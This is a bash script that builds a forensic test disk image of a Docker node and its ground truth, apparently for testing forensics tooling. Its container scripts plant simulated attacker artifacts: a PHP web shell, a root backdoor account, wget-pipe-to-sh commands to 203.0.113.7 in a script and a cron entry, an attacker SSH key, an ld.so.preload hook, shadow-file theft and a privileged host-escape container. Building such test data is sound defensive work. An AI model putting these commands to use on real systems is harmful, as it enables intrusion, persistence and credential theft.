#!/bin/bash
# Build test image "a": GPT disk, one ext4 partition at 1 MiB holding a Docker node root,
# with a real dockerd 20.10 (overlay2, json-file logs) and Docker's own ground truth.
#
# usage: node-a.sh OUTDIR        (called by scripts/make-testimages.sh)
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lib.sh
. "$HERE/lib.sh"

OUT=$(realpath -m "$1")
T="$OUT/truth"
NAME=node-a
NODE_HOSTNAME=$NAME
DISK_MIB=300
PART_START=2048                       # sectors (1 MiB)
PART_SECTORS=$(( (DISK_MIB - 2) * 2048 ))  # 298 MiB, leaves room for the backup GPT
PART_OFF=$(( PART_START * 512 ))
PART_LEN=$(( PART_SECTORS * 512 ))

make_workdir
rm -rf "$OUT"; mkdir -p "$OUT"; truth_dirs
CONTAINERS_TSV="$T/containers.tsv"
printf 'name\tid\tstate_at_imaging\tremoved\thow_removed\n' >"$CONTAINERS_TSV"
: >"$T/files.sha256"; : >"$T/removed-files.sha256"

# ---------------------------------------------------------------------------------------------
log "disk: ${DISK_MIB} MiB, GPT, ext4 partition at $PART_OFF"
DISK="$W/disk.raw"
truncate -s "${DISK_MIB}M" "$DISK"
sfdisk -q "$DISK" <<EOF
label: gpt
start=$PART_START, size=$PART_SECTORS, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name="node-root"
EOF
loop_attach "$DISK" "$PART_OFF" "$PART_LEN"; LOOP=$LOOPDEV
# Debian 12 mke2fs defaults for ext4 ([defaults]: 4 KiB blocks, 256-byte inodes,
# inode_ratio 16384). "-T default" only stops mke2fs from picking its "small" profile
# (1 KiB blocks) for a file system below 512 MiB: a real node's root has 4 KiB blocks.
mkfs.ext4 -q -T default -L node-root "$LOOP"
FS_UUID=$(blkid -s UUID -o value "$LOOP")
M="$W/mnt"; mkdir -p "$M"
mount "$LOOP" "$M"
push_cleanup 'unmount_node'

node_skeleton
chroot_mounts
first_write_in_chroot
populate_host "$NAME" "$FS_UUID" ext4 "/dev/nvme0n1p1"
cat >"$M/etc/docker/daemon.json" <<'EOF'
{
  "storage-driver": "overlay2",
  "log-driver": "json-file",
  "log-opts": {
    "max-size": "10m",
    "max-file": "3"
  },
  "live-restore": false
}
EOF
age_host
dockerd_start
ENGINE_VERSION=$(docker version -f '{{.Server.Version}}')
CLI_VERSION=$(docker version -f '{{.Client.Version}}')
CONTAINERD_VERSION=$(containerd --version | awk '{print $3}')
RUNC_VERSION=$(runc --version | awk 'NR == 1 {print $3}')

# ---------------------------------------------------------------------------------------------
log "images"
make_base_tar "$W/base.tar"
docker import -m "husk base image (busybox-static)" \
    -c 'ENV PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin' \
    -c 'CMD ["/bin/sh"]' "$W/base.tar" husk/base:1.0 >/dev/null
sleep 1
cp -a "$HERE/web-image" "$W/web-ctx"
find "$W/web-ctx" -exec touch -h -d '2025-02-01 12:00:00 UTC' {} +
docker build -q -t husk/web:2.3 "$W/web-ctx" >/dev/null
docker tag husk/web:2.3 husk/web:latest
sleep 2

# ---------------------------------------------------------------------------------------------
log "container web (running, rotated + compressed json-file logs, whiteouts, opaque dir)"
read -r -d '' WEB_SH <<'EOF' || true
echo "web: husk-web 2.3 starting, APP_ENV=$APP_ENV"
echo "web: warning: running as root" >&2
i=1
while [ $i -le 420 ]; do
  printf 'web: 10.20.%d.%d - - "GET /index.html?id=%04d HTTP/1.1" 200 48 "-" "Mozilla/5.0 (X11; Linux x86_64)"\n' $((i % 7)) $((i % 250 + 1)) $i
  [ $((i % 20)) -eq 0 ] && echo "web: error: upstream timeout on request $i after 1500ms" >&2
  i=$((i + 1))
done
sleep 1
echo '<?php if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); } ?>' > /srv/www/shell.php
echo 'svc-backup:x:0:0:backup service:/root:/bin/sh' >> /etc/passwd
echo 'Maintenance window: contact svc-backup' >> /etc/motd
rm -f /srv/www/index.html /usr/share/doc/husk-base/README
rm -rf /opt/legacy
mkdir -p /opt/legacy/bin
printf '#!/bin/sh\n# legacy tool (replaced)\nwget -q -O- http://203.0.113.7/stage2.sh | sh\n' > /opt/legacy/bin/tool.sh
chmod 0755 /opt/legacy/bin/tool.sh
printf 'legacy=0\n' > /opt/legacy/legacy.conf
mkdir -p /tmp/.cache
printf '#!/bin/sh\n# HUSK-WEB-KWORKERD\nwhile :; do sleep 60; done\n' > /tmp/.cache/kworkerd
chmod 0755 /tmp/.cache/kworkerd
ln -s /tmp/.cache/kworkerd /usr/local/bin/kworkerd
echo "web: POST /upload.php 200 (shell.php written)"
L=$(head -c 20000 /dev/zero | tr '\0' 'W')
echo "web: LONGLINE-BEGIN ${L} LONGLINE-END"
echo "web: error: 3 requests blocked by WAF rule 942100" >&2
echo "web: ready"
exec httpd -f -p 127.0.0.1:8080 -h /srv/www
EOF
docker run -d --name web --hostname web-7d4f --network none \
    --log-opt max-size=8k --log-opt max-file=4 --log-opt compress=true \
    --label app=web --label tier=frontend \
    -e APP_ENV=production husk/web:2.3 /bin/sh -c "$WEB_SH" >/dev/null
wait_log web "web: ready" 60
sleep 2

log "container batch (exits 3)"
read -r -d '' BATCH_SH <<'EOF' || true
echo "batch: job nightly-report started"
mkdir -p /work/out
i=1
while [ $i -le 300 ]; do echo "$i,item-$i,$((i * 7 % 101))"; i=$((i + 1)); done > /work/out/report.csv
echo "batch: wrote /work/out/report.csv ($(wc -l < /work/out/report.csv) rows)"
printf 'token=HUSK-BATCH-TOKEN-0001\n' > /root/.batch-token
L=$(head -c 40000 /dev/zero | tr '\0' 'B')
echo "batch: LONGLINE-BEGIN ${L} LONGLINE-END"
echo "batch: error: upload to s3://husk-reports/nightly failed: connection refused" >&2
echo "batch: exiting with status 3" >&2
exit 3
EOF
docker run --name batch --network none --label app=batch husk/base:1.0 /bin/sh -c "$BATCH_SH" \
    >/dev/null 2>&1 || true
[ "$(docker inspect -f '{{.State.ExitCode}}' batch)" = 3 ] || die "batch did not exit 3"
sleep 2

log "container fresh (created, never started)"
docker create --name fresh --network none -e MODE=standby --label app=web husk/web:2.3 >/dev/null
sleep 2

log "container priv (--privileged: created, start fails here)"
docker run -d --name priv --network none --privileged husk/base:1.0 \
    /bin/sh -c 'echo "priv: started"; sleep 3600' >/dev/null 2>&1 || true
[ "$(docker inspect -f '{{.State.Status}}' priv)" = created ] || die "priv is not in state created"
sleep 2

log "container vol (named volume + read-only bind mount, exits 0)"
docker volume create --label purpose=app-data data >/dev/null
read -r -d '' VOL_SH <<'EOF' || true
echo "vol: syncing /share to /data"
cp /share/config.ini /data/config.ini
i=1
while [ $i -le 50 ]; do echo "record $i state=ok"; i=$((i + 1)); done > /data/records.log
printf 'HUSK_VOL_SECRET=4f1e9a77\n' > /data/secret.env
touch /share/should-fail || echo "vol: /share is read-only" >&2
echo "vol: done"
EOF
docker run --name vol --network none -v data:/data -v /srv/share:/share:ro \
    husk/base:1.0 /bin/sh -c "$VOL_SH" >/dev/null 2>&1
sleep 2

# ---------------------------------------------------------------------------------------------
log "container gone1 (exits, then docker rm)"
read -r -d '' GONE1_SH <<'EOF' || true
echo "gone1: exfil staging started"
mkdir -p /root/loot
i=1
while [ $i -le 2000 ]; do
  printf 'HUSK-GONE1 record %05d abcdefghijklmnopqrstuvwxyz0123456789\n' $i
  i=$((i + 1))
done > /root/loot/gone1-data.txt
echo 'HUSK-GONE1-MARKER: staged by gone1' > /etc/gone1-marker
echo "gone1: staged $(wc -c < /root/loot/gone1-data.txt) bytes in /root/loot"
echo "gone1: warning: cleanup pending" >&2
EOF
docker run --name gone1 --network none --label app=gone1 husk/base:1.0 /bin/sh -c "$GONE1_SH" >/dev/null 2>&1
# let the data reach the disk, as it would on a node where the container lived for minutes
# (without this, ext4 delayed allocation never writes the blocks of a short-lived file)
sync; sleep 1
capture_container gone1
GONE1_ID=$(cid gone1)
sha_upper gone1 "$T/removed-files.sha256"
save_removed_files gone1
record_container gone1 "$GONE1_ID" removed yes "docker rm (after exit 0)"
docker rm gone1 >/dev/null
sleep 2

log "container gone2 (running, then docker rm -f)"
read -r -d '' GONE2_SH <<'EOF' || true
echo "gone2: miner starting"
printf 'pool=stratum+tcp://203.0.113.9:3333\nwallet=HUSK-GONE2-WALLET-8c1d\nthreads=2\n' > /tmp/.miner.conf
i=1
while [ $i -le 5000 ]; do
  printf 'HUSK-GONE2 share %05d nonce=%08x accepted\n' $i $((i * 2654435761 % 4294967296))
  i=$((i + 1))
done > /tmp/.miner.log
echo "gone2: hashrate 0.0 H/s, retrying pool" >&2
echo "gone2: ready"
exec sleep 86400
EOF
docker run -d --name gone2 --network none --label app=gone2 --cpu-shares 128 husk/base:1.0 \
    /bin/sh -c "$GONE2_SH" >/dev/null
wait_log gone2 "gone2: ready" 30
sync; sleep 1
capture_container gone2
GONE2_ID=$(cid gone2)
sha_upper gone2 "$T/removed-files.sha256"
save_removed_files gone2
record_container gone2 "$GONE2_ID" removed yes "docker rm -f (while running)"
docker rm -f gone2 >/dev/null
sleep 2

log "container gone3 (--rm, removes itself on exit)"
read -r -d '' GONE3_SH <<'EOF' || true
echo "gone3: one-shot task started"
echo 'HUSK-GONE3-MARKER: written by gone3' > /gone3-marker.txt
mkdir -p /var/log/task
i=1
while [ $i -le 800 ]; do echo "HUSK-GONE3 step $i done"; i=$((i + 1)); done > /var/log/task/gone3.log
echo "gone3: error: result upload skipped" >&2
echo "gone3: ready"
sleep 12
EOF
docker run -d --rm --name gone3 --network none --label app=gone3 husk/base:1.0 /bin/sh -c "$GONE3_SH" >/dev/null
wait_log gone3 "gone3: ready" 10
sync
capture_container gone3
GONE3_ID=$(cid gone3)
sha_upper gone3 "$T/removed-files.sha256"
save_removed_files gone3
grep -q '"Running": true' "$T/inspect/gone3.json" || die "gone3 exited before its ground truth was captured"
record_container gone3 "$GONE3_ID" removed yes "--rm (auto-removed on exit 0)"
for i in $(seq 1 60); do
    docker inspect gone3 >/dev/null 2>&1 || break
    sleep 0.5
done
docker inspect gone3 >/dev/null 2>&1 && die "gone3 was not auto-removed"
sleep 2

log "container after (activity after the removals, exits 0)"
docker run --name after --network none husk/base:1.0 /bin/sh -c \
    'echo "after: post-removal activity"; echo "HUSK-AFTER" > /after.txt; ls / | wc -l' >/dev/null 2>&1
sleep 2

log "container escape (running with dangerous rights, writes host persistence)"
read -r -d '' ESCAPE_SH <<'EOF' || true
echo "escape: maintenance agent starting"
sleep 1
printf '* * * * * root /bin/sh -c "wget -q -O- http://203.0.113.7/k.sh | sh" >/dev/null 2>&1\n' > /host/etc/cron.d/evil
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHUSKattackerKEYattackerKEYattackerKEY0001 attacker@203.0.113.7' >> /host/root/.ssh/authorized_keys
mkdir -p /host/var/lib/.sysd
printf '\177ELF (husk test payload, not a real library)\n' > /host/var/lib/.sysd/libsysd.so
echo '/var/lib/.sysd/libsysd.so' > /host/etc/ld.so.preload
printf '#!/bin/sh\n# HUSK-ESCAPE dropper\ncat /host/etc/shadow > /tmp/.s\nchroot /host /bin/sh\n' > /tmp/.x.sh
chmod 0755 /tmp/.x.sh
cat /host/etc/shadow > /tmp/.s
[ -S /var/run/docker.sock ] && echo "escape: docker socket reachable at /var/run/docker.sock"
echo "escape: pid 1 of the host is $(cat /proc/1/comm)"
echo "escape: host persistence installed" >&2
echo "escape: ready"
exec sleep 86400
EOF
docker run -d --name escape --network none \
    --cap-add SYS_ADMIN --cap-add SYS_PTRACE --pid=host \
    --security-opt seccomp=unconfined --security-opt apparmor=unconfined \
    -v /:/host -v /var/run/docker.sock:/var/run/docker.sock \
    --restart unless-stopped --label app=agent \
    husk/base:1.0 /bin/sh -c "$ESCAPE_SH" >/dev/null
wait_log escape "escape: ready" 30
sleep 2

# ---------------------------------------------------------------------------------------------
log "ground truth at imaging time"
for n in web batch fresh priv vol after escape; do
    capture_container "$n"
    record_container "$n" "$(cid "$n")" "$(docker inspect -f '{{.State.Status}}' "$n")" no ""
done
capture_ps
capture_images
capture_volumes
capture_engine_info

WEB_UP=$(upper_of web)
BATCH_UP=$(upper_of batch)
ESC_UP=$(upper_of escape)
VOL_UP=$(upper_of vol)
# the image layer of husk/web:2.3 that holds the /etc/issue whiteout (RUN mkdir ... rm -f /etc/issue)
WEB_IMG_LAYERS=$(docker image inspect -f '{{range .RootFS.Layers}}{{.}} {{end}}' husk/web:2.3)
chain=""; RUN_LAYER_CACHE=""
for d in $WEB_IMG_LAYERS; do
    if [ -z "$chain" ]; then chain=$d; else
        chain="sha256:$(printf '%s %s' "$chain" "$d" | sha256sum | cut -d' ' -f1)"; fi
    c=$(cat "$M/var/lib/docker/image/overlay2/layerdb/sha256/${chain#sha256:}/cache-id")
    [ -e "$M/var/lib/docker/overlay2/$c/diff/etc/issue" ] && [ -c "$M/var/lib/docker/overlay2/$c/diff/etc/issue" ] &&
        RUN_LAYER_CACHE=$c
done
[ -n "$RUN_LAYER_CACHE" ] || die "did not find the image layer with the /etc/issue whiteout"
IMG_UP="/var/lib/docker/overlay2/$RUN_LAYER_CACHE/diff"
{
    echo "# well-known node paths of this image"
    printf 'web.upper\t%s\n' "$WEB_UP"
    printf 'batch.upper\t%s\n' "$BATCH_UP"
    printf 'vol.upper\t%s\n' "$VOL_UP"
    printf 'escape.upper\t%s\n' "$ESC_UP"
    printf 'after.upper\t%s\n' "$(upper_of after)"
    printf 'fresh.upper\t%s\n' "$(upper_of fresh)"
    printf 'priv.upper\t%s\n' "$(upper_of priv)"
    printf 'husk/web:2.3.run-layer-with-whiteout\t%s\n' "$IMG_UP"
    printf 'volume.data\t/var/lib/docker/volumes/data/_data\n'
} >"$T/paths.tsv"

log "file hashes"
sha_node "$T/files.sha256" /etc/hostname /etc/passwd /etc/shadow /etc/crontab /etc/docker/daemon.json \
    /etc/cron.d/evil /etc/cron.d/docker-prune /etc/ld.so.preload /var/lib/.sysd/libsysd.so \
    /root/.ssh/authorized_keys /srv/share/config.ini \
    /var/lib/docker/volumes/data/_data/records.log /var/lib/docker/volumes/data/_data/secret.env \
    /var/lib/docker/volumes/data/_data/config.ini
for n in web batch escape after; do sha_upper "$n" "$T/files.sha256"; done
for n in batch vol after; do
    sha_node "$T/files.sha256" "/var/lib/docker/containers/$(cid "$n")/$(cid "$n")-json.log"
done
WEB_ID=$(cid web)
for f in $(cd "$M/var/lib/docker/containers/$WEB_ID" && ls | grep -- '-json.log.' || true); do
    sha_node "$T/files.sha256" "/var/lib/docker/containers/$WEB_ID/$f"
done
declare -A CID
# which of web's log files holds what (read before the freeze)
printf 'file\tentries\tpartial_entries\tlongline_chunks\tfirst_time\tlast_time\n' >"$T/web-logfiles.tsv"
for f in $(cd "$M/var/lib/docker/containers/$WEB_ID" && ls | grep -- '-json.log' | sort); do
    case $f in *.gz) rd="gzip -dc" ;; *) rd="cat" ;; esac
    $rd "$M/var/lib/docker/containers/$WEB_ID/$f" | jq -rs --arg f "$f" '[$f, length,
        (map(select(.log | endswith("\n") | not)) | length),
        (map(select(.log | test("^W+( LONGLINE-END)?\n?$|LONGLINE-BEGIN"))) | length),
        (.[0].time // ""), (.[-1].time // "")] | @tsv' >>"$T/web-logfiles.tsv"
done
for n in web batch fresh priv vol after escape; do CID[$n]=$(cid "$n"); done

# ---------------------------------------------------------------------------------------------
log "snapshot (fsfreeze + copy while dockerd runs)"
sleep 1
freeze_node
date -u +%Y-%m-%dT%H:%M:%SZ >"$T/imaging-time.txt"
STAT_PATHS=(/ /bin /etc/hostname /etc/passwd /etc/shadow /etc/crontab /etc/cron.d /etc/cron.d/evil
    /etc/ld.so.preload /root/.ssh/authorized_keys /etc/docker/daemon.json /var/run /var/log/docker.log
    /var/lib/docker /var/lib/docker/containers /var/lib/docker/overlay2)
for n in web batch fresh priv vol after escape; do
    STAT_PATHS+=("/var/lib/docker/containers/${CID[$n]}" "/var/lib/docker/containers/${CID[$n]}/config.v2.json"
        "/var/lib/docker/containers/${CID[$n]}/hostconfig.json")
done
for f in $(cd "$M/var/lib/docker/containers/$WEB_ID" && ls | grep -- '-json.log'); do
    STAT_PATHS+=("/var/lib/docker/containers/$WEB_ID/$f")
done
STAT_PATHS+=("$WEB_UP" "$WEB_UP/srv/www/index.html" "$WEB_UP/usr/share/doc/husk-base/README"
    "$WEB_UP/opt" "$WEB_UP/opt/legacy" "$WEB_UP/opt/legacy/bin/tool.sh" "$WEB_UP/srv/www/shell.php"
    "$WEB_UP/etc/passwd" "$WEB_UP/etc/motd" "$WEB_UP/tmp/.cache/kworkerd" "$WEB_UP/usr/local/bin/kworkerd"
    "$IMG_UP/etc/issue" "$IMG_UP/srv/www/index.html"
    "$BATCH_UP/work/out/report.csv" "$ESC_UP/tmp/.x.sh" "$ESC_UP/tmp/.s"
    /var/lib/docker/volumes/data/_data /var/lib/docker/volumes/data/_data/secret.env)
stat_node "${STAT_PATHS[@]}"
xattr_node "$WEB_UP/opt/legacy" "$WEB_UP/opt" "$WEB_UP/etc/passwd" "$WEB_UP/etc" "$WEB_UP/srv/www" \
    "$WEB_UP/srv/www/index.html" "$IMG_UP/etc" "$IMG_UP/etc/issue"
cp --sparse=always "$DISK" "$W/snap.raw"
thaw_node
log "snapshot taken"

dockerd_stop
unmount_node
loop_detach "$LOOP"

# ---------------------------------------------------------------------------------------------
. "$HERE/finish.sh"
finish_disk_common "$W/snap.raw"
# E01 (EnCase 6, deflate best, 1 MiB segments so that there are several segment files)
log "E01"
ewfacquire -u -q -t "$OUT/disk" -f encase6 -c best -S 1048576 -d sha1 -b 64 -m fixed -M physical \
    -C "HUSK-TEST-A" -D "husk test node-a: GPT + ext4 Docker node (snapshot)" -e "husk make-testimages.sh" \
    -E "node-a" -N "regenerate with scripts/make-testimages.sh a" "$W/snap.raw" >"$W/ewfacquire.log" 2>&1 ||
    { cat "$W/ewfacquire.log" >&2; die "ewfacquire failed"; }
ls "$OUT"/disk.E0* >/dev/null
ewfverify -q "$OUT/disk.E01" >"$T/ewfverify.txt" 2>&1 || { cat "$T/ewfverify.txt" >&2; die "ewfverify failed"; }
ewfinfo "$OUT/disk.E01" >"$T/ewfinfo.txt" 2>&1
# the hashes stored in the EWF must be those of the raw disk
[ "$(awk '/MD5:/ {print $2}' "$T/ewfinfo.txt")" = "$(cut -d' ' -f1 "$OUT/disk.md5")" ] || die "E01 MD5 differs from disk.md5"
[ "$(awk '/SHA1:/ {print $2}' "$T/ewfinfo.txt")" = "$(sha1sum "$W/snap.raw" | cut -d' ' -f1)" ] || die "E01 SHA-1 differs"

layout_ext4 "$W/snap.raw" "$PART_OFF" "$PART_LEN"
strings_check "$W/snap.raw" 'HUSK-GONE1 record 00001' 'HUSK-GONE1 record 02000' 'HUSK-GONE1-MARKER: staged' \
    'HUSK-GONE2 share 00001' 'HUSK-GONE2 share 05000' 'wallet=HUSK-GONE2-WALLET-8c1d' \
    'HUSK-GONE3 step 1 done' 'HUSK-GONE3 step 800 done' 'HUSK-GONE3-MARKER: written' \
    'gone1: exfil staging started' 'gone2: miner starting' 'gone3: one-shot task started' \
    "$GONE1_ID" "$GONE2_ID" "$GONE3_ID"
sanity_tsk "$W/snap.raw" "$PART_START" ext4
# TSK reads the E01 segments as the same disk
fls -i ewf -r -p -o "$PART_START" "$OUT/disk.E01" >"$W/fls-e01.txt"
cmp -s "$W/fls.txt" "$W/fls-e01.txt" || die "fls on disk.E01 differs from fls on the raw disk"
printf '\n# fls -i ewf -r -p -o %s disk.E01: identical to the raw listing (%s entries)\n' \
    "$PART_START" "$(wc -l <"$W/fls-e01.txt")" >>"$T/tsk-sanity.txt"
FRESH_ID=$(awk -F'\t' '$1 == "fresh" {print $2}' "$T/containers.tsv")
grep -q "containers/$FRESH_ID/$FRESH_ID-json.log" "$W/fls.txt" && : >"$W/fresh-log-exists"
. "$HERE/readme-a.sh"
log "node-a done: $(du -sh "$OUT" | cut -f1)"
